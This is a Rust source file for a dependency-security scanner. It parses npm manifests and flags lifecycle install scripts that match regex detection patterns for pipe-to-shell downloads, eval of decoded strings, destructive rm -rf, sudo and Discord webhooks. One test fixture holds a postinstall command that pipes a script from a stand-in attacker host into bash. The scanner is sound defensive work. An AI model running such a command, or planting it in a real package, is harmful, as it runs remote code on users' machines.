//! npm ecosystem analyzer: manifest parsing, install-script (lifecycle) pattern analysis,
//! and npm-specific registry URL construction.

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use async_trait::async_trait;
use regex::Regex;

use crate::models::dependency::{DependencyType, ManifestDependency};
use crate::models::ecosystem::Ecosystem;
use crate::models::finding::{Finding, Severity};
use crate::services::analyzer::EcosystemAnalyzer;

const MANIFEST_FILES: &[&str] = &["package.json", "package-lock.json", "yarn.lock", "npm-shrinkwrap.json"];

pub struct NpmAnalyzer;

impl NpmAnalyzer {
    pub fn new() -> Self {
        Self
    }

    fn parse_package_json(&self, manifest_path: &Path) -> Vec<ManifestDependency> {
        let content = match std::fs::read_to_string(manifest_path) {
            Ok(c) => c,
            Err(err) => {
                tracing::warn!(path = %manifest_path.display(), error = %err, "failed to read package.json");
                return vec![];
            }
        };

        let json: serde_json::Value = match serde_json::from_str(&content) {
            Ok(v) => v,
            Err(err) => {
                tracing::warn!(path = %manifest_path.display(), error = %err, "failed to parse package.json");
                return vec![];
            }
        };

        let mut deps = Vec::new();
        for (field, dep_type) in [
            ("dependencies", DependencyType::Production),
            ("peerDependencies", DependencyType::Production),
            ("optionalDependencies", DependencyType::Production),
            ("devDependencies", DependencyType::Development),
        ] {
            if let Some(obj) = json.get(field).and_then(|v| v.as_object()) {
                for (name, spec) in obj {
                    let spec = spec.as_str().unwrap_or("*").to_string();
                    deps.push(ManifestDependency::new(
                        name.clone(),
                        spec,
                        dep_type,
                        manifest_path.to_path_buf(),
                        Ecosystem::Npm,
                    ));
                }
            }
        }
        deps
    }

    fn lifecycle_scripts(&self, dir: &Path) -> HashMap<String, String> {
        let manifest = dir.join("package.json");
        let content = match std::fs::read_to_string(&manifest) {
            Ok(c) => c,
            Err(_) => return HashMap::new(),
        };
        let json: serde_json::Value = match serde_json::from_str(&content) {
            Ok(v) => v,
            Err(_) => return HashMap::new(),
        };
        json.get("scripts")
            .and_then(|v| v.as_object())
            .map(|obj| {
                obj.iter()
                    .filter(|(name, _)| matches!(name.as_str(), "preinstall" | "install" | "postinstall"))
                    .filter_map(|(k, v)| v.as_str().map(|s| (k.clone(), s.to_string())))
                    .collect()
            })
            .unwrap_or_default()
    }
}

impl Default for NpmAnalyzer {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl EcosystemAnalyzer for NpmAnalyzer {
    fn ecosystem_name(&self) -> &'static str {
        "npm"
    }

    fn detect_manifest_files(&self, dir: &Path) -> Vec<PathBuf> {
        MANIFEST_FILES
            .iter()
            .map(|name| dir.join(name))
            .filter(|path| path.exists())
            .collect()
    }

    fn extract_dependencies(&self, manifest_path: &Path) -> Vec<ManifestDependency> {
        match manifest_path.file_name().and_then(|n| n.to_str()) {
            Some("package.json") => self.parse_package_json(manifest_path),
            _ => vec![],
        }
    }

    async fn analyze_install_scripts(&self, dir: &Path) -> Vec<Finding> {
        let scripts = self.lifecycle_scripts(dir);
        let patterns = self.get_malicious_patterns();

        let mut findings = Vec::new();
        for (script_name, script_body) in scripts {
            let mut matched: Vec<(Severity, String)> = Vec::new();
            for (severity_name, regexes) in &patterns {
                let severity = match *severity_name {
                    "critical" => Severity::Critical,
                    "high" => Severity::High,
                    "medium" => Severity::Medium,
                    _ => Severity::Low,
                };
                for pattern in regexes {
                    if let Ok(re) = Regex::new(pattern) {
                        if re.is_match(&script_body) {
                            matched.push((severity, format!("matched pattern `{pattern}` in `{script_name}`")));
                        }
                    }
                }
            }

            if matched.is_empty() {
                continue;
            }

            let severity = matched.iter().map(|(s, _)| *s).max().unwrap_or(Severity::Low);
            let evidence: Vec<String> = matched.into_iter().map(|(_, e)| e).collect();

            findings.push(Finding::new(
                "".to_string(),
                "".to_string(),
                "malicious_script",
                severity,
                0.8,
                evidence,
                vec!["Review the lifecycle script before installing this package".to_string()],
                "npm_analyzer",
            ));
        }
        findings
    }

    fn get_registry_url(&self, name: &str) -> String {
        let encoded = if let Some(stripped) = name.strip_prefix('@') {
            format!("%40{stripped}")
        } else {
            name.to_string()
        };
        format!("{}/{}", Ecosystem::Npm.registry_base_url(), encoded)
    }

    fn get_malicious_patterns(&self) -> HashMap<&'static str, Vec<&'static str>> {
        let mut map = HashMap::new();
        map.insert(
            "critical",
            vec![
                r"curl[^|]*\|\s*(bash|sh)",
                r"wget[^|]*\|\s*(bash|sh)",
                r"eval\s*\(\s*atob\s*\(",
                r"eval\s*\(\s*Buffer\.from\s*\(",
            ],
        );
        map.insert(
            "high",
            vec![
                r"rm\s+-rf\s+(/|~|\$HOME)",
                r"chmod\s+\+[sx]",
                r"\bsudo\b",
                r"base64\s+-d",
                r">\s*/etc/",
            ],
        );
        map.insert(
            "medium",
            vec![
                r"(curl|wget)[^\n]*\.(tk|ml|ga|cf|cc)\b",
                r"discord\.com/api/webhooks",
                r"\beval\s*\(",
                r"child_process\.exec",
            ],
        );
        map
    }

    fn ecosystem(&self) -> Ecosystem {
        Ecosystem::Npm
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn test_registry_url_scoped() {
        let analyzer = NpmAnalyzer::new();
        assert_eq!(
            analyzer.get_registry_url("@types/node"),
            "https://registry.npmjs.org/%40types/node"
        );
        assert_eq!(analyzer.get_registry_url("express"), "https://registry.npmjs.org/express");
    }

    #[test]
    fn test_detect_manifest_files() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("package.json"), "{}").unwrap();
        let analyzer = NpmAnalyzer::new();
        let found = analyzer.detect_manifest_files(dir.path());
        assert_eq!(found.len(), 1);
    }

    #[test]
    fn test_extract_dependencies() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = dir.path().join("package.json");
        let mut file = std::fs::File::create(&manifest).unwrap();
        write!(
            file,
            r#"{{"dependencies": {{"left-pad": "^1.3.0"}}, "devDependencies": {{"jest": "^29.0.0"}}}}"#
        )
        .unwrap();

        let analyzer = NpmAnalyzer::new();
        let deps = analyzer.extract_dependencies(&manifest);
        assert_eq!(deps.len(), 2);
        assert!(deps.iter().any(|d| d.name == "left-pad" && !d.is_dev_only()));
        assert!(deps.iter().any(|d| d.name == "jest" && d.is_dev_only()));
    }

    #[tokio::test]
    async fn test_analyze_install_scripts_flags_curl_pipe_bash() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = dir.path().join("package.json");
        std::fs::write(
            &manifest,
            r#"{"scripts": {"postinstall": "curl http://evil.tld/p.sh | bash"}}"#,
        )
        .unwrap();

        let analyzer = NpmAnalyzer::new();
        let findings = analyzer.analyze_install_scripts(dir.path()).await;
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Critical);
    }

    #[tokio::test]
    async fn test_analyze_install_scripts_benign_yields_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let manifest = dir.path().join("package.json");
        std::fs::write(&manifest, r#"{"scripts": {"postinstall": "node ./build.js"}}"#).unwrap();

        let analyzer = NpmAnalyzer::new();
        let findings = analyzer.analyze_install_scripts(dir.path()).await;
        assert!(findings.is_empty());
    }
}
